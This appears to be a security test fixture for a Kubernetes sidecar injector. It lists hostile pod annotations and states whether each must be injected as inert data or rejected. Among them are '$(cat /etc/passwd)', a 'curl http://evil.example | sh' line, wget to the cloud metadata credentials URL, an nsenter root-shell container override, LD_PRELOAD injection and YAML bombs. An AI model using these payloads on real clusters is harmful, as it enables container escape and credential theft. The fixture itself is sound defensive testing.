/**
 * Hostile annotation values for "annotations are data" (test/security/annotations.test.ts): file paths, file:// and
 * cloud-metadata URLs, shell substitutions, YAML tags and bombs, huge JSON. Plain JSON data, so a child process
 * running under Node's permission model can be handed the same cases.
 */
import { samplePod } from '../../src/admission/sample.js';
import type { Pod } from '../../src/k8s/types.js';

export interface HostileCase {
  name: string;
  annotations: Record<string, string>;
  /** What must come out: injected (the values end up as data, see `data`), or rejected naming the annotation. */
  expect: 'injected' | 'rejected';
  /** For injected cases: strings that must appear in the patch inside string values (as data). */
  data?: string[];
  /** For rejected cases: a pattern the message must match. */
  message?: string;
}

const SHELL = '$(cat /etc/passwd)';
const METADATA_URL = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';

function billionLaughs(levels: number): string {
  const lines = ['proxyMetadata:', '  a0: &a0 "lol"'];
  for (let i = 1; i <= levels; i++) lines.push(`  a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(',')}]`);
  return lines.join('\n');
}

export const HOSTILE_CASES: HostileCase[] = [
  {
    name: 'userVolume naming host paths and URLs as configMap/secret names',
    annotations: {
      'sidecar.istio.io/userVolume': JSON.stringify({ a: { configMap: { name: 'file:///etc/passwd' } }, b: { secret: { secretName: '/var/run/secrets/kubernetes.io/serviceaccount/token' } } }),
      'sidecar.istio.io/userVolumeMount': JSON.stringify({ a: { mountPath: '/etc/istio/proxy/../../../etc', readOnly: true }, b: { mountPath: SHELL } }),
    },
    expect: 'injected',
    data: ['file:///etc/passwd', '/var/run/secrets/kubernetes.io/serviceaccount/token', '/etc/istio/proxy/../../../etc', SHELL],
  },
  {
    name: 'userVolume with a hostPath (forbidden by default)',
    annotations: { 'sidecar.istio.io/userVolume': JSON.stringify({ root: { hostPath: { path: '/' } } }), 'sidecar.istio.io/userVolumeMount': JSON.stringify({ root: { mountPath: '/host' } }) },
    expect: 'rejected',
    message: "volume 'root' uses hostPath, which the operator does not allow",
  },
  {
    name: 'userVolume hiding a hostPath behind __proto__',
    annotations: { 'sidecar.istio.io/userVolume': '{"__proto__":{"hostPath":{"path":"/"}}}' },
    expect: 'rejected',
    message: 'hostPath',
  },
  {
    name: 'userVolume: a CSI volume whose attributes are URLs (data for the CSI driver, not fetched)',
    annotations: { 'sidecar.istio.io/userVolume': JSON.stringify({ c: { csi: { driver: 'secrets-store.csi.k8s.io', volumeAttributes: { url: METADATA_URL } } } }) },
    expect: 'injected',
    data: [METADATA_URL],
  },
  {
    name: 'huge userVolume (3,000 volumes)',
    annotations: {
      'sidecar.istio.io/userVolume': JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`v${i}`, { configMap: { name: `file:///etc/v${i}` } }]))),
    },
    expect: 'injected',
    data: ['file:///etc/v0', 'file:///etc/v2999'],
  },
  {
    name: 'deeply nested userVolume JSON',
    annotations: { 'sidecar.istio.io/userVolume': `{"v":{"emptyDir":{"x":${'['.repeat(20_000)}${']'.repeat(20_000)}}}}` },
    expect: 'rejected',
    message: 'nested at most 128 levels',
  },
  {
    name: 'bootstrap override naming a host file',
    annotations: { 'sidecar.istio.io/bootstrapOverride': '/etc/passwd' },
    expect: 'injected',
    data: ['/etc/passwd'],
  },
  {
    name: 'ProxyConfig naming files, URLs and shell substitutions',
    annotations: {
      'proxy.istio.io/config': [
        `configPath: "${SHELL}"`,
        'proxyBootstrapTemplatePath: /etc/shadow',
        `discoveryAddress: "${METADATA_URL}"`,
        'customConfigFile: file:///etc/passwd',
        'proxyMetadata:',
        `  CMD: "${SHELL}"`,
      ].join('\n'),
    },
    expect: 'injected',
    data: [SHELL, '/etc/shadow', METADATA_URL, 'file:///etc/passwd'],
  },
  {
    name: 'ProxyConfig with YAML tags (no tag runs code: unknown tags stay strings)',
    annotations: { 'proxy.istio.io/config': 'configPath: !!js/function "function () { return require(\'fs\').readFileSync(\'/etc/passwd\') }"\nbinaryPath: !<tag:yaml.org,2002:js/undefined> x' },
    expect: 'injected',
    data: ["function () { return require('fs').readFileSync('/etc/passwd') }"],
  },
  {
    name: 'ProxyConfig billion laughs (aliases)',
    annotations: { 'proxy.istio.io/config': billionLaughs(9) },
    expect: 'rejected',
    message: 'Excessive alias count',
  },
  {
    name: 'ProxyConfig with a recursive alias',
    annotations: { 'proxy.istio.io/config': 'tracing: &a {zipkin: *a}' },
    expect: 'rejected',
    message: 'recursive alias',
  },
  {
    name: 'ProxyConfig with 2,000 map keys (duplicate keys are checked in linear time)',
    annotations: { 'proxy.istio.io/config': `proxyMetadata: {${Array.from({ length: 2_000 }, (_, i) => `K${i}: "${SHELL}"`).join(', ')}}` },
    expect: 'injected',
    data: ['K1999', SHELL],
  },
  {
    name: 'ProxyConfig over 64 KiB',
    annotations: { 'proxy.istio.io/config': `configPath: "${'a'.repeat(70_000)}"` },
    expect: 'rejected',
    message: 'at most 65536',
  },
  {
    name: 'ProxyConfig nested 10,000 flow levels deep',
    annotations: { 'proxy.istio.io/config': `tracing: ${'{a: '.repeat(10_000)}1${'}'.repeat(10_000)}` },
    expect: 'rejected',
    message: 'nested deeper than 64 levels',
  },
  {
    name: 'proxy image from a file:// URL',
    annotations: { 'sidecar.istio.io/proxyImage': 'file:///etc/passwd' },
    expect: 'rejected',
    message: 'proxy images must come from',
  },
  {
    name: 'proxy image from another registry',
    annotations: { 'sidecar.istio.io/proxyImage': 'evil.example.com/istio/proxyv2:1.30.2' },
    expect: 'rejected',
    message: 'proxy images must come from',
  },
  {
    name: 'shell substitutions in log levels, ports, networks and the Prometheus path',
    annotations: {
      'sidecar.istio.io/logLevel': SHELL,
      'sidecar.istio.io/componentLogLevel': '`id`; curl http://evil.example | sh',
      'sidecar.istio.io/agentLogLevel': `${SHELL} && wget ${METADATA_URL}`,
      'k8s.v1.cni.cncf.io/networks': 'file:///etc/passwd',
      'prometheus.io/path': METADATA_URL,
    },
    expect: 'injected',
    data: [`--proxyLogLevel=${SHELL}`, '--proxyComponentLogLevel=`id`; curl http://evil.example | sh'],
  },
  {
    name: 'a shell substitution where a CIDR list belongs',
    annotations: { 'traffic.sidecar.istio.io/includeOutboundIPRanges': SHELL },
    expect: 'rejected',
    message: "failed parsing cidr '\\$\\(cat /etc/passwd\\)'",
  },
  {
    name: 'proxy.istio.io/overrides turning istio-init into a root shell from another registry',
    annotations: {
      'proxy.istio.io/overrides': JSON.stringify({
        initContainers: [{ name: 'istio-init', image: 'evil.example.com/tools:1', command: ['/bin/sh', '-c', `nsenter -t 1 -m -u -i -n -p -- ${SHELL}`], securityContext: { runAsUser: 0, privileged: true } }],
      }),
    },
    expect: 'rejected',
    message: "injected container istio-init: image 'evil.example.com/tools:1' set by annotation proxy.istio.io/overrides",
  },
  {
    name: 'LD_PRELOAD and PROXY_UID in proxyMetadata (environment of the root istio-init)',
    annotations: { 'proxy.istio.io/config': 'proxyMetadata:\n  LD_PRELOAD: /var/lib/istio/data/evil.so\n  PROXY_UID: "0"\n' },
    expect: 'rejected',
    message: 'environment variables LD_PRELOAD, PROXY_UID set by annotation proxy.istio.io/config',
  },
  {
    name: 'an istio-iptables flag where outbound ports belong',
    annotations: { 'traffic.sidecar.istio.io/includeOutboundPorts': '-u' },
    expect: 'rejected',
    message: "includeOutboundPorts invalid: failed parsing port '-u'",
  },
  {
    name: 'core dumps: a privileged init container asked for by the pod',
    annotations: { 'sidecar.istio.io/enableCoreDump': 'true' },
    expect: 'rejected',
    message: 'injected container enable-core-dump would run privileged',
  },
  {
    name: 'injection templates naming files',
    annotations: { 'inject.istio.io/templates': '/etc/passwd,file:///etc/shadow' },
    expect: 'rejected',
    message: "requested template '/etc/passwd' not found",
  },
];

/** A pod (Deployment-owned, namespace default) with the case's annotations. */
export function hostilePod(c: HostileCase): Pod {
  const pod = samplePod();
  pod.metadata = { ...pod.metadata, annotations: { ...c.annotations } };
  return pod;
}
